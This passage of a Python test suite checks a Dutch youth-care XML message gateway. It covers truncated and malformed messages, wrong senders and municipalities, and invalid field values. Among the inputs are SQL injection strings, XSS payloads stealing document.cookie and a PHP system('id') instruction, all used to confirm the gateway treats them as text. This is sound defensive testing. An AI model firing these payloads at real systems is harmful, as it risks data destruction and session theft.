    c.add("utf8-truncated-multibyte", "encoding", "a multi-byte character cut short",
          m323(c.next).replace(b"<ijw:ReferentieNummer>BIR", b"<ijw:ReferentieNummer>\xe2\x82BIR"),
          status=400, error=NIET_GELDIG, rule="XML")

    # ------------------------------------------------------------------ truncated XML
    body = m323(c.next)
    for slug, cut in (("half", len(body) // 2), ("ten-bytes", 10), ("in-declaration", 20),
                      ("last-byte", len(body) - 2), ("inside-tag", body.index(b"<jw323:Clienten>") + 6)):
        c.add(f"truncated-{slug}", "truncated", "not well-formed: the message ends too early", body[:cut],
              status=400, error=NIET_GELDIG, rule="XML")
    c.add("truncated-in-multibyte-char", "truncated", "cut in the middle of a two-byte character",
          m323(c.next, raw_ref="P\u00e9\u00e9").split("P\u00e9\u00e9".encode())[0] + b"P\xc3", status=400,
          error=NIET_GELDIG, rule="XML")
    c.add("truncated-missing-element", "truncated", "a required element left out (level 1 names it)",
          m323(c.next).replace(b"<jw323:DeclaratieDagtekening>2026-05-04</jw323:DeclaratieDagtekening>", b""),
          status=400, error=NIET_GELDIG, rule="XSD", path_contains="DeclaratieDagtekening")
    c.add("truncated-no-clienten", "truncated", "a declaration without clients",
          m323(c.next)[: m323(c.next).index(b"<jw323:Clienten>")] + b"</jw323:Declaratie>\n</jw323:Bericht>\n",
          status=400, error=NIET_GELDIG, rule="XSD", path_contains="Clienten")
    c.add("truncated-header-only", "truncated", "only a header",
          m323(c.next)[: m323(c.next).index(b"<jw323:Declaratie>")] + b"</jw323:Bericht>\n",
          status=400, error=NIET_GELDIG, rule="XSD", path_contains="Declaratie")

    # ------------------------------------------------------------------ namespace
    body = m323(c.next)
    c.add("namespace-none", "namespace", "no namespace: no message type",
          body.replace(b' xmlns:jw323="http://www.istandaarden.nl/ijw/3_2/jw323/schema"', b' xmlns:jw323="urn:x"'),
          status=400, error=NIET_GELDIG, rule="NS")
    c.add("namespace-release-3-1", "namespace", "a release 3.1 namespace is not read",
          body.replace(b"/ijw/3_2/jw323/schema", b"/ijw/3_1/jw323/schema"), status=400, error=NIET_GELDIG, rule="NS")
    c.add("namespace-jw-vs-wmo-mismatch", "namespace", "iwmo path with a jw message: not a 3.2 namespace",
          body.replace(b"/ijw/3_2/jw323/schema", b"/iwmo/3_2/jw323/schema"), status=400, error=NIET_GELDIG, rule="NS")
    c.add("namespace-unknown-type", "namespace", "message type 399 does not exist in 3.2",
          body.replace(b"/ijw/3_2/jw323/schema", b"/ijw/3_2/jw399/schema"), status=400, error=NIET_GELDIG, rule="NS")
    c.add("namespace-root-not-bericht", "namespace", "the root must be Bericht",
          body.replace(b"jw323:Bericht", b"jw323:Berichtje"), status=400, error=NIET_GELDIG, rule="NS")
    c.add("namespace-wmo-with-jw-basis", "namespace", "a Wmo 323 with Jeugdwet basisschema elements (level 1)",
          body.replace(b"/ijw/3_2/jw323/schema", b"/iwmo/3_2/wmo323/schema"), status=400, error=NIET_GELDIG,
          rule="XSD")
    c.add("namespace-basis-swapped", "namespace", "Identificatie in the message namespace instead of the basisschema",
          body.replace(b"ijw:Identificatie", b"jw323:Identificatie"), status=400, error=NIET_GELDIG, rule="XSD")
    c.add("namespace-default-xmlns-trick", "namespace", "a default namespace on a child does not make it valid",
          body.replace(b"<jw323:Declaratie>", b'<Declaratie xmlns="urn:evil">', 1).replace(
              b"</jw323:Declaratie>", b"</Declaratie>", 1), status=400, error=NIET_GELDIG, rule="XSD")

    # ------------------------------------------------------------------ wrong message type for the party
    c.add("type-provider-sends-301", "wrong-type", "allocations come from municipalities", V301, status=403,
          error="aanbieder may not submit a 301")
    c.add("type-municipality-sends-323", "wrong-type", "declarations come from providers", GOOD,
          token="own_municipality", status=403, error="gemeente may not submit a 323")
    c.add("type-provider-sends-325", "wrong-type", "the back office makes 325s", voorbeeld("jw325-voorbeeld-0611.xml"),
          status=422, error="not submitted to this gateway")
    c.add("type-municipality-sends-325", "wrong-type", "the back office makes 325s",
          voorbeeld("jw325-voorbeeld-0611.xml"), token="own_municipality", status=422,
          error="not submitted to this gateway")
    for t in ("306", "308", "316", "318"):
        c.add(f"type-provider-sends-{t}", "wrong-type", "retours on providers' messages are made by the back office",
              voorbeeld(f"jw{t}-voorbeeld.xml"), status=422, error="not submitted to this gateway")
    for t in ("302", "305", "307", "315", "317", "320"):
        c.add(f"type-municipality-sends-{t}", "wrong-type", "a provider's message type",
              voorbeeld(f"jw{t}-voorbeeld.xml"), token="own_municipality", status=403,
              error=f"gemeente may not submit a {t}")
    c.add("type-provider-sends-319", "wrong-type", "a municipality's message type", voorbeeld("jw319-voorbeeld.xml"),
          status=403, error="aanbieder may not submit a 319")
    c.add("type-controller-sends-323", "wrong-type", "the region's controller submits nothing", GOOD,
          token="controller", status=403, error="regio may not submit a 323")
    c.add("type-proef-with-301", "wrong-type", "only declarations can be pre-checked", m301(c.next), path=PROEF,
          token="own_municipality", status=422, error="only declarations")
    c.add("type-proef-by-municipality", "wrong-type", "a municipality pre-checks no declaration", GOOD, path=PROEF,
          token="own_municipality", status=403, error="gemeente may not submit a 323")

    # ------------------------------------------------------------------ wrong party
    c.add("party-afzender-other-agb", "wrong-party", "Afzender must be the token's AGB",
          m323(c.next, replace=(("<jw323:Afzender>87654321<", "<jw323:Afzender>12345678<"),)),
          status=403, error="Afzender 12345678 is not the AGB code of this token")
    c.add("party-other-providers-token", "wrong-party", "another provider submitting our message", m323(c.next),
          token="other_provider", status=403, error="Afzender 87654321 is not the AGB code of this token")
    c.add("party-unknown-agb-as-afzender", "wrong-party", "an AGB unknown to the region is still not this token's",
          m323(c.next, replace=(("<jw323:Afzender>87654321<", "<jw323:Afzender>11111111<"),)),
          status=403, error="not the AGB code of this token")
    c.add("party-other-municipality-301", "wrong-party", "Woerden's 301 with Montfoort's token", m301(c.next),
          token="other_municipality", status=403, error="Afzender 0632 is not the CBS code of this token")
    c.add("party-301-afzender-other-cbs", "wrong-party", "Montfoort's CBS as Afzender with Woerden's token",
          m301(c.next, replace=(("<jw301:Afzender>0632<", "<jw301:Afzender>1904<"),)), token="own_municipality",
          status=403, error="Afzender 1904 is not the CBS code of this token")
    c.add("party-302-other-provider", "wrong-party", "a retour by a provider that is not the heen's Ontvanger",
          voorbeeld("jw302-voorbeeld.xml"), token="other_provider", status=403, error="not the AGB code of this token")
    c.add("party-proef-other-provider", "wrong-party", "pre-checking another provider's declaration", GOOD,
          path=PROEF, token="other_provider", status=403, error="not the AGB code of this token")
    c.add("party-305-afzender-other-agb", "wrong-party", "a start message in another provider's name",
          voorbeeld("jw305-voorbeeld.xml"), token="other_provider", status=403, error="not the AGB code of this token")

    # ------------------------------------------------------------------ wrong municipality
    for slug, cbs in (("unknown-9999", "9999"), ("outside-region-0344", "0344"), ("zero-0000", "0000")):
        c.add(f"municipality-{slug}", "wrong-municipality", "routing: not a municipality of this region",
              m323(c.next, replace=(("<jw323:Ontvanger>0632<", f"<jw323:Ontvanger>{cbs}<"),)),
              status=422, error=f"routing: municipality {cbs} is not served")
    c.add("municipality-cbs-three-digits", "wrong-municipality", "a CBS code has 4 digits (level 1)",
          m323(c.next, replace=(("<jw323:Ontvanger>0632<", "<jw323:Ontvanger>632<"),)),
          status=400, error=NIET_GELDIG, rule="XSD", path_contains="Ontvanger")
    c.add("municipality-301-from-outside-region", "wrong-municipality", "a 301 from Utrecht (0344)",
          m301(c.next, replace=(("<jw301:Afzender>0632<", "<jw301:Afzender>0344<"),)), token="own_municipality",
          status=422, error="routing: municipality 0344 is not served")
    c.add("municipality-301-to-unknown-provider", "wrong-municipality", "a 301 to a provider not in the region file",
          m301(c.next, replace=(("<jw301:Ontvanger>87654321<", "<jw301:Ontvanger>11111111<"),)),
          token="own_municipality", status=422, error="provider 11111111 is not known")
    c.add("municipality-proef-outside-region", "wrong-municipality", "pre-check for Utrecht (0344)",
          m323(c.next, replace=(("<jw323:Ontvanger>0632<", "<jw323:Ontvanger>0344<"),)), path=PROEF,
          status=422, error="routing")

    # ------------------------------------------------------------------ malformed values (level 1: 400)
    def bad(slug: str, old: str, new: str, path_part: str, why: str = "", **kw) -> None:
        c.add(f"value-{slug}", "malformed-values", why or f"{path_part}: not a valid value (level 1)",
              m323(c.next, replace=((old, new),)), status=400, error=NIET_GELDIG, rule=kw.pop("rule", "XSD"),
              path_contains=path_part, **kw)

    DAG = "<ijw:Dagtekening>2026-05-04<"
    for slug, v in (("feb-30", "2026-02-30"), ("month-13", "2026-13-01"), ("april-31", "2026-04-31"),
                    ("two-digit-year", "26-05-04"), ("with-timezone", "2026-05-04Z"),
                    ("with-offset", "2026-05-04+02:00"), ("datetime", "2026-05-04T00:00:00"),
                    ("dutch-format", "04-05-2026"), ("year-0", "0000-05-04"), ("sql", "2026-05-04' OR '1'='1")):
        bad(f"date-{slug}", DAG, f"<ijw:Dagtekening>{esc(v)}<", "Dagtekening")
    bad("date-empty", DAG, "<ijw:Dagtekening><", "Dagtekening", rule="RS033", why="empty element (RS033)")
    bad("productperiode-feb-29-2026", "<ijw:Einddatum>2026-04-30</ijw:Einddatum>\n            </jw323:ProductPeriode>",
        "<ijw:Einddatum>2026-02-29</ijw:Einddatum>\n            </jw323:ProductPeriode>", "Einddatum",
        why="2026 is no leap year")
    AMT = "<ijw:Bedrag>118200<"
    for slug, v in (("negative", "-118200"), ("non-numeric", "abc"), ("decimal", "1182.00"), ("comma", "1182,00"),
                    ("too-large", "100000000"), ("exponent", "1e5"), ("hex", "0x1CDB8"), ("fullwidth", "\uff11\uff11"),
                    ("arabic-indic", "\u0661\u0661\u0668"), ("sql", "0; DROP TABLE journaalposten")):
        bad(f"amount-{slug}", AMT, f"<ijw:Bedrag>{esc(v)}<", "Bedrag")
    bad("total-13-digits", "<ijw:TotaalBedrag>118200<", "<ijw:TotaalBedrag>1000000000000<", "TotaalBedrag")
    bad("total-negative", "<ijw:TotaalBedrag>118200<", "<ijw:TotaalBedrag>-118200<", "TotaalBedrag")
    DC = "<ijw:DebetCredit>D</ijw:DebetCredit>\n            </jw323:IngediendBedrag>"
    for slug, v in (("x", "X"), ("lowercase", "d"), ("leading-space", " D"), ("both", "DC")):
        bad(f"debetcredit-{slug}", DC, f"<ijw:DebetCredit>{v}</ijw:DebetCredit>\n            </jw323:IngediendBedrag>",
            "DebetCredit")
    for slug, old, new, part in (
            ("eenheid-99", "<jw323:Eenheid>04<", "<jw323:Eenheid>99<", "Eenheid"),
            ("eenheid-4", "<jw323:Eenheid>04<", "<jw323:Eenheid>4<", "Eenheid"),
            ("productcategorie-99", "<jw323:ProductCategorie>45<", "<jw323:ProductCategorie>99<", "ProductCategorie"),
            ("productcategorie-wmo-in-jw", "<jw323:ProductCategorie>45<", "<jw323:ProductCategorie>02<",
             "ProductCategorie"),
            ("productcode-6-chars", "<jw323:ProductCode>45A07<", "<jw323:ProductCode>45A077<", "ProductCode"),
            ("productcode-blank", "<jw323:ProductCode>45A07<", "<jw323:ProductCode>   <", "ProductCode"),
            ("declaratienummer-dash", "<jw323:DeclaratieNummer>BI", "<jw323:DeclaratieNummer>B-I", "DeclaratieNummer"),
            ("declaratienummer-13", "<jw323:DeclaratieNummer>BI", "<jw323:DeclaratieNummer>ABCDEFGHIJ", "DeclaratieNummer"),
            ("identificatie-13", "<ijw:Identificatie>BI", "<ijw:Identificatie>ABCDEFGHIJ", "Identificatie"),
            ("bsn-8-digits", "<jw323:Bsn>999990019<", "<jw323:Bsn>99999001<", "Bsn"),
            ("bsn-letters", "<jw323:Bsn>999990019<", "<jw323:Bsn>99999OO19<", "Bsn"),
            ("bsn-fullwidth", "<jw323:Bsn>999990019<", "<jw323:Bsn>\uff19\uff19\uff19\uff19\uff19\uff10\uff10\uff11"
                                                       "\uff19<", "Bsn"),
            ("agb-7-digits", "<jw323:Afzender>87654321<", "<jw323:Afzender>8765432<", "Afzender"),
            ("berichtcode-491", "<jw323:BerichtCode>490<", "<jw323:BerichtCode>491<", "BerichtCode"),
            ("berichtversie-4", "<jw323:BerichtVersie>3<", "<jw323:BerichtVersie>4<", "BerichtVersie"),
            ("berichtsubversie-1", "<jw323:BerichtSubversie>2<", "<jw323:BerichtSubversie>1<", "BerichtSubversie"),
            ("xsdversie-two-parts", "<ijw:BasisschemaXsdVersie>1.0.0<", "<ijw:BasisschemaXsdVersie>1.0<",
             "BasisschemaXsdVersie"),
            ("toewijzingnummer-negative", "<jw323:ToewijzingNummer>999999999<", "<jw323:ToewijzingNummer>-1<",
             "ToewijzingNummer"),
            ("toewijzingnummer-10-digits", "<jw323:ToewijzingNummer>999999999<",
             "<jw323:ToewijzingNummer>9999999999<", "ToewijzingNummer"),
            ("volume-negative", "<jw323:GeleverdVolume>12<", "<jw323:GeleverdVolume>-12<", "GeleverdVolume"),
            ("tarief-decimal", "<jw323:ProductTarief>9850<", "<jw323:ProductTarief>98.50<", "ProductTarief"),
            ("referentienummer-21-chars", "<ijw:ReferentieNummer>BIR", "<ijw:ReferentieNummer>123456789012345678BIR",
             "ReferentieNummer"),
            ("attribute-on-element", "<jw323:Eenheid>", '<jw323:Eenheid onclick="alert(1)">', "Eenheid"),
            ("text-between-elements", "<jw323:Eenheid>", "hallo<jw323:Eenheid>", "Prestatie"),
            ("unknown-element", "<jw323:Eenheid>", "<jw323:Korting>100</jw323:Korting><jw323:Eenheid>", "Korting"),
            ("element-order-swapped", "<jw323:ProductCategorie>45</jw323:ProductCategorie>\n            "
             "<jw323:ProductCode>45A07</jw323:ProductCode>", "<jw323:ProductCode>45A07</jw323:ProductCode>\n"
             "            <jw323:ProductCategorie>45</jw323:ProductCategorie>", "Product"),
    ):
        bad(slug, old, new, part, rule={"declaratienummer-dash": "CS319", "declaratienummer-13": "CS319",
                                        "berichtcode-491": "RS010"}.get(slug, "XSD"))
    c.add("value-identificatie-blank", "malformed-values", "an Identificatie of spaces is blank (level 1)",
          m323(c.next, ident="   "), status=400, error=NIET_GELDIG, rule="XSD", path_contains="Identificatie")
    c.add("value-bsn-out-of-place-is-masked", "malformed-values", "a BSN as loose text (its tag lost): the problem "
          "echoed it (bug fixed); it is masked now",
          m323(c.next, replace=(("<jw323:Bsn>999990019</jw323:Bsn>", "999990019"),)),
          status=400, error=NIET_GELDIG, rule="XSD", not_in_body="999990019")
    c.add("value-header-twice", "malformed-values", "two headers",
          m323(c.next).replace(b"</jw323:Header>", b"</jw323:Header>\n  <jw323:Header/>", 1),
          status=400, error=NIET_GELDIG, rule="XSD")
    # 301 values, sent by the municipality (level 1: 400)
    for slug, old, new, part in (
            ("geboortedatum-feb-30", "<ijw:Datum>2014-06-15<", "<ijw:Datum>2014-02-30<", "Datum"),
            ("geslacht-9", "<jw301:Geslacht>2<", "<jw301:Geslacht>9<", "Geslacht"),
            ("toewijzingstijd-25h", "<jw301:Toewijzingstijd>10:15:00<", "<jw301:Toewijzingstijd>25:00:00<",
             "Toewijzingstijd"),
            ("frequentie-9", "<ijw:Frequentie>2<", "<ijw:Frequentie>9<", "Frequentie"),
            ("landcode-xx", "<ijw:LandCode>NL<", "<ijw:LandCode>XX<", "LandCode"),
            ("voorletters-digits", "<ijw:Voorletters>A<", "<ijw:Voorletters>A1<", "Voorletters"),
            ("postcode-9-chars", "<ijw:Postcode>3441AA<", "<ijw:Postcode>3441AA123<", "Postcode"),
            ("straatnaam-25-chars", "<ijw:Straatnaam>Voorbeeldstraat<", "<ijw:Straatnaam>Voorbeeldstraatxxxxxxxxxx<",
             "Straatnaam"),
            ("achternaam-201-chars", "<ijw:Achternaam>Voorbeeld<", f"<ijw:Achternaam>{'x' * 201}<", "Achternaam"),
            ("commentaar-only-whitespace", "<jw301:Contactgegevens>",
             "<jw301:Commentaar> \t </jw301:Commentaar>\n    <jw301:Contactgegevens>", "Commentaar"),
    ):
        c.add(f"value-301-{slug}", "malformed-values", f"{part}: not a valid value (level 1)",
              m301(c.next, replace=((old, new),)), token="own_municipality", status=400, error=NIET_GELDIG,
              rule="XSD", path_contains=part)
    c.add("value-301-bsn-elfproef", "malformed-values", "the municipality hears of level-2 faults at once (422)",
          m301(c.next, replace=(("<jw301:Bsn>999990019<", "<jw301:Bsn>999990018<"),)), token="own_municipality",
          status=422, error="control level 2", rule="CS002", not_in_body="999990018")
    c.add("value-301-einddatum-before-ingang", "malformed-values", "CS003 (level 2): 422 for the municipality",
          m301(c.next, replace=(("<jw301:Einddatum>2026-09-30<", "<jw301:Einddatum>2026-03-01<"),)),
          token="own_municipality", status=422, error="control level 2", rule="CS003")
    # level 2 of the 323: accepted, then a 325 with 0001 only (§6.2)
    c.level2("level2-bsn-elfproef", "CS002: the BSN fails the 11-proef",
             (("<jw323:Bsn>999990019<", "<jw323:Bsn>999990018<"),), "CS002")
    c.level2("level2-declaratieperiode-not-a-month", "CS340",
             (("<ijw:Einddatum>2026-04-30</ijw:Einddatum>\n    </jw323:DeclaratiePeriode>",
               "<ijw:Einddatum>2026-04-29</ijw:Einddatum>\n    </jw323:DeclaratiePeriode>"),), "CS340")
    c.level2("level2-productperiode-two-months", "CS337",
             (("<ijw:Einddatum>2026-04-30</ijw:Einddatum>\n            </jw323:ProductPeriode>",
               "<ijw:Einddatum>2026-05-01</ijw:Einddatum>\n            </jw323:ProductPeriode>"),), "CS337")
    c.level2("level2-total-mismatch", "TR358: the total is not the sum of the lines",
             (("<ijw:TotaalBedrag>118200<", "<ijw:TotaalBedrag>118201<"),), "TR358")
    c.level2("level2-vorigreferentie-on-debit", "CD060",
             ((f"BIR{c.next:03d}</ijw:ReferentieNummer>",
               f"BIR{c.next:03d}</ijw:ReferentieNummer>\n              <ijw:VorigReferentieNummer>X1"
               "</ijw:VorigReferentieNummer>"),), "CD060")
    c.level2("level2-tarief-with-euro-unit", "CD087 and CS339: Eenheid 83 has no tariff",
             (("<jw323:Eenheid>04<", "<jw323:Eenheid>83<"),), "CD087")
    c.level2("level2-period-begins-after-dagtekening", "TR134: the declaration and product periods begin after the "
             "message's Dagtekening (the official stylesheet's reading of TR134)",
             (("<ijw:Dagtekening>2026-05-04<", "<ijw:Dagtekening>2026-03-31<"),), "TR134")
    c.level2("level2-period-ends-after-dagtekening", "TR137: the periods end after the message's Dagtekening",
             (("<ijw:Dagtekening>2026-05-04<", "<ijw:Dagtekening>2026-04-29<"),), "TR137")
    c.level2("level2-productperiode-after-declaratieperiode", "TR319 in the message: a product period after the "
             "declaration period", (("<ijw:Begindatum>2026-04-01</ijw:Begindatum>\n              "
                                     "<ijw:Einddatum>2026-04-30",
                                     "<ijw:Begindatum>2026-05-01</ijw:Begindatum>\n              "
                                     "<ijw:Einddatum>2026-05-02"),), "TR319")
    c.level2("level2-date-before-2021", "CS100",
             (("<ijw:Begindatum>2026-04-01</ijw:Begindatum>\n              <ijw:Einddatum>2026-04-30",
               "<ijw:Begindatum>2020-04-01</ijw:Begindatum>\n              <ijw:Einddatum>2020-04-30"),), "CS100")
    c.level2("level2-zero-amount-credit", "CS325: an amount of 0 carries D",
             (("<ijw:TotaalBedrag>118200<", "<ijw:TotaalBedrag>0<"), ("<ijw:Bedrag>118200<", "<ijw:Bedrag>0<"),
              ("<jw323:GeleverdVolume>12<", "<jw323:GeleverdVolume>0<"),
              ("<ijw:DebetCredit>D</ijw:DebetCredit>\n            </jw323:IngediendBedrag>",
               "<ijw:DebetCredit>C</ijw:DebetCredit>\n            </jw323:IngediendBedrag>")), "CS325")
    # level 2 of the other messages: a provider's heen message gets a retour with 0001; a municipality's 319 and a
    # provider's 302 are refused at the door
    c.level2_heen("305", "status-2", "CS058: StatusAanlevering 2 (gewijzigd) is not allowed",
                  (("<jw305:StatusAanlevering>1<", "<jw305:StatusAanlevering>2<"),), "CS058")
    c.level2_heen("307", "end-before-start", "TR018: the care ends before it began",
                  (("<jw307:Einddatum>2026-06-30<", "<jw307:Einddatum>2026-03-31<"),), "TR018")
    c.level2_heen("315", "beschikkingnummer-without-date", "CD043: a BeschikkingNummer without its Ingangsdatum",
                  (("</jw315:ReferentieAanbieder>", "</jw315:ReferentieAanbieder>\n        "
                                                    "<jw315:BeschikkingNummer>77001</jw315:BeschikkingNummer>"),),
                  "CD043")
    c.level2_heen("317", "budget-with-omvang", "CD077 and CD078: a product to change with both Omvang and Budget",
                  (("</jw317:Omvang>", "</jw317:Omvang>\n          <jw317:Budget>1000</jw317:Budget>"),), "CD078")
    c.level2_door("319", "rejection-without-reason", "CD085: a rejection (VerzoekAntwoord 1) without a reason",
                  (("<jw319:RedenAfwijzingVerzoek>3</jw319:RedenAfwijzingVerzoek>", ""),), "CD085",
                  "own_municipality")
    c.level2_door("302", "bsn-elfproef", "CS002 in a provider's retour: the BSN fails the 11-proef",
                  (("<jw302:Bsn>999990019<", "<jw302:Bsn>999990018<"),), "CS002", "provider")
    # level 3/4: accepted, then the code the rule gives, in its place
    n = c.next
    c.add("rule-dagtekening-in-future", "malformed-values", "TR135: Dagtekening after the date of receipt → 8848 in "
          "the header", m323(n, replace=(("<ijw:Dagtekening>2026-05-04<", "<ijw:Dagtekening>2099-05-04<"),)),
          status=202, antwoord={"header": ["8848"]})
    first_accepted = c.next
    c.accepted_323("rule-reference-case", "malformed-values", "an ordinary one-line declaration on an allocation "
                   "that does not exist: 9338 on the line (the reference all accepted cases share)", text=f"BIR{first_accepted:03d}")
    c.add("rule-identificatie-reused", "malformed-values", "TR056: the Identificatie of the case before → 9056 in the "
          "header only", m323(c.next, ident=f"BI{first_accepted:03d}"), status=202, antwoord={"header": ["9056"]},
          depends_on=f"{first_accepted:03d}")
    c.add("rule-declaratienummer-reused", "malformed-values", "TR333: the DeclaratieNummer of the case before → 9333 "
          "on the declaration", m323(c.next, declnr=f"BI{first_accepted:03d}"), status=202,
          antwoord={"header": ["0200"], "declaratie": ["9333"]}, depends_on=f"{first_accepted:03d}")
    c.add("rule-identical-resubmission", "malformed-values", "the very same bytes again: 200 with the same id, "
          "nothing new stored", m323(first_accepted, ref=f"BIR{first_accepted:03d}"), status=200, herhaald=True,
          depends_on=f"{first_accepted:03d}")
    c.add("rule-credit-without-debit", "malformed-values", "a credit line whose VorigReferentieNummer names no "
          "approved debit → 8017 on the line",
          m323(c.next, replace=((f"BIR{c.next:03d}</ijw:ReferentieNummer>",
                                 f"BIR{c.next:03d}</ijw:ReferentieNummer>\n              <ijw:VorigReferentieNummer>"
                                 f"'; DELETE FROM x--</ijw:VorigReferentieNummer>"),
                                ("<ijw:DebetCredit>D</ijw:DebetCredit>\n            </jw323:IngediendBedrag>",
                                 "<ijw:DebetCredit>C</ijw:DebetCredit>\n            </jw323:IngediendBedrag>"),
                                ("<ijw:DebetCredit>D</ijw:DebetCredit>\n    </jw323:TotaalIngediendBedrag>",
                                 "<ijw:DebetCredit>C</ijw:DebetCredit>\n    </jw323:TotaalIngediendBedrag>"))),
          status=202, antwoord={"header": ["0200"], "declaratie": ["0200"], "client": ["0200"],
                                "prestatie": {f"BIR{c.next:03d}": ["8017"]}})

    # ------------------------------------------------------------------ SQL injection
    sql = "free text is data: stored byte-exact and echoed escaped, never executed; the line is judged as usual"
    for slug, text in (("quote-or", "' OR '1'='1"), ("drop-table", "'; DROP TABLE x;--"),
                       ("union", "1 UNION SELECT 1--"), ("comment", "P1/**/OR/**/1=1"),
                       ("stacked", "1;SELECT pg_sleep(9)"), ("dollar-quote", "$$;DROP TABLE y;$$")):
        c.accepted_323(f"sql-referentienummer-{slug}", "sql-injection", sql, text=text)
    c.accepted_323("sql-identificatie", "sql-injection", sql, field="Identificatie", text="' OR 1=1--")
    c.accepted_323("sql-productcode", "sql-injection", sql + " (no allocation, so no TR340)", field="ProductCode",
                   text="'--")
    c.accepted_323("sql-proef", "sql-injection", "the pre-check judges it and keeps nothing", text="'); DROP--",
                   path=PROEF)
    c.add("sql-declaratienummer", "sql-injection", "DeclaratieNummer is letters and digits only (CS319)",
          m323(c.next, declnr="1'OR'1"), status=400, error=NIET_GELDIG, rule="CS319")
    c.add("sql-bsn", "sql-injection", "a BSN is 9 digits", m323(c.next, replace=(("<jw323:Bsn>999990019<",
                                                                                 "<jw323:Bsn>' OR 1=1<"),)),
          status=400, error=NIET_GELDIG, rule="XSD", path_contains="Bsn")
    c.accepted_301("sql-301-achternaam", "sql-injection", sql,
                   (("<ijw:Achternaam>Voorbeeld<", "<ijw:Achternaam>Robert'); DROP TABLE berichten;--<"),),
                   "Robert'); DROP TABLE berichten;--")
    c.accepted_301("sql-301-commentaar", "sql-injection", sql,
                   (("</jw301:Omvang>", "</jw301:Omvang>\n        <jw301:Commentaar>'; UPDATE rekeningen SET saldo=0;--"
                                        "</jw301:Commentaar>"),), "'; UPDATE rekeningen SET saldo=0;--")
    for slug, path in (("message-id", "/v1/berichten/'%20OR%20'1'='1"),
                       ("message-id-union", "/v1/berichten/1%20UNION%20SELECT%20*%20FROM%20archief--/inhoud")):
        c.add(f"sql-url-{slug}", "sql-injection", "an id that is no UUID is simply not found", None, method="GET",
              path=path, content_type=None, status=404, error="no message with id")
    c.add("sql-query-type", "sql-injection", "type is three digits", None, method="GET",
          path="/v1/berichten?type=323'%20OR%20'1'='1", content_type=None, status=400, error="invalid request")
    c.add("sql-query-status", "sql-injection", "status is one of the known ones", None, method="GET",
          path="/v1/berichten?status=ontvangen'--", content_type=None, status=400, error="invalid request")
    c.add("sql-gemeente-path", "sql-injection", "not a municipality of the region", None, method="GET",
          path="/v1/gemeenten/0632'%20OR%20'1'='1/termijnen", token="own_municipality", content_type=None,
          status=404, error="is not part of region")

    # ------------------------------------------------------------------ HTML / script
    html = "markup as text is data: stored byte-exact, echoed escaped in the 325 (never as markup)"
    for slug, text in (("svg-onload", "<svg onload=alert()>"), ("img-onerror", "<img src=x onerror>"),
                       ("script-short", "<script>x</script>"), ("entity-text", "&lt;b&gt;&amp;"),
                       ("quotes", "\"'><b>\"'")):
        c.accepted_323(f"html-referentienummer-{slug}", "html-script", html, text=text)
    c.accepted_323("html-cdata", "html-script", "CDATA is text: the value is <b>x</b>", text="<b>x</b>",
                   raw="<![CDATA[<b>x</b>]]>")
    c.accepted_323("html-identificatie", "html-script", html, field="Identificatie", text="<img src=x>")
    c.accepted_323("html-productcode", "html-script", html, field="ProductCode", text="<b>")
    c.add("html-raw-script-element", "html-script", "a real element where text belongs (level 1)",
          m323(c.next, raw_ref="<script>alert(1)</script>"), status=400, error=NIET_GELDIG, rule="XSD",
          path_contains="ReferentieNummer")
    c.add("html-script-too-long", "html-script", "ReferentieNummer has at most 20 characters",
          m323(c.next, ref="<script>alert(1)</script>"), status=400, error=NIET_GELDIG, rule="XSD")
    c.add("html-processing-instruction", "html-script", "a processing instruction is not the value: it is ignored, "
          "like comments (XML Schema), and the value judged is P2026BI",
          m323(c.next, raw_ref="P2026<?php system('id'); ?>BI"), status=202,
          antwoord={"header": ["0200"], "declaratie": ["0200"], "client": ["0200"], "prestatie": {"P2026BI": ["9338"]}})
    c.accepted_301("html-301-commentaar", "html-script", html,
                   (("</jw301:Omvang>", "</jw301:Omvang>\n        <jw301:Commentaar>&lt;script&gt;alert(document.cookie)"
                                        "&lt;/script&gt;</jw301:Commentaar>"),), "<script>alert(document.cookie)</script>")
    c.accepted_301("html-301-straatnaam", "html-script", html,
                   (("<ijw:Straatnaam>Voorbeeldstraat<", "<ijw:Straatnaam>&lt;b onclick=x&gt;<"),), "<b onclick=x>")
    c.accepted_301("html-301-emailadres", "html-script", html + " (a javascript: URL is only text)",
                   (("</jw301:Adres>", "</jw301:Adres>\n        <jw301:Emailadres>javascript:alert(1)//@x.nl"
                                       "</jw301:Emailadres>"),), "javascript:alert(1)//@x.nl")

    # ------------------------------------------------------------------ control characters
    ctl = "not an XML 1.0 character: not well-formed"
    for slug, raw in (("nul-byte", "\x00"), ("u0001-byte", "\x01"), ("u001b-escape", "\x1b"), ("u001f", "\x1f"),
                      ("vertical-tab", "\x0b"), ("form-feed", "\x0c")):
        c.add(f"control-{slug}-in-referentienummer", "control-chars", ctl, m323(c.next, raw_ref=f"P{raw}1"),
              status=400, error=NIET_GELDIG, rule="XML")
    for slug, ref in (("charref-nul", "&#0;"), ("charref-u0001", "&#1;"), ("charref-u0008", "&#x8;"),
                      ("charref-u001f", "&#x1F;")):
        c.add(f"control-{slug}", "control-chars", ctl + " (also as a character reference)",
              m323(c.next, raw_ref=f"P{ref}1"), status=400, error=NIET_GELDIG, rule="XML")
    c.add("control-nul-in-identificatie", "control-chars", ctl, m323(c.next).replace(b"<ijw:Identificatie>BI",
                                                                                    b"<ijw:Identificatie>B\x00I"),
          status=400, error=NIET_GELDIG, rule="XML")
    c.add("control-escape-in-301-commentaar", "control-chars", ctl,
          m301(c.next, replace=(("</jw301:Omvang>", "</jw301:Omvang>\n<jw301:Commentaar>a\x1b[31mb</jw301:Commentaar>"),)),
          token="own_municipality", status=400, error=NIET_GELDIG, rule="XML")
    c.add("control-lf-in-identificatie", "control-chars", "a line break in an Identificatie breaks its pattern",
          m323(c.next, replace=(("<ijw:Identificatie>BI", "<ijw:Identificatie>B&#10;I"),)), status=400,
          error=NIET_GELDIG, rule="XSD", path_contains="Identificatie")
    c.add("control-cr-in-productcode", "control-chars", "a CR in a ProductCode breaks its pattern",
          m323(c.next, replace=(("<jw323:ProductCode>45A07<", "<jw323:ProductCode>45&#13;A<"),)), status=400,
          error=NIET_GELDIG, rule="XSD", path_contains="ProductCode")
    allowed = "allowed in XML 1.0 and in xs:string: stored byte-exact and echoed, judged as usual"
    c.accepted_323("control-del-u007f", "control-chars", allowed + " (U+007F DEL)", text="P\x7f1")
    c.accepted_323("control-c1-nel-u0085", "control-chars", allowed + " (U+0085, a C1 control)", text="P\x851")
    c.accepted_323("control-tab-in-referentienummer", "control-chars", allowed + " (tab as a character reference)",
                   text="P\t1", raw="P&#9;1")
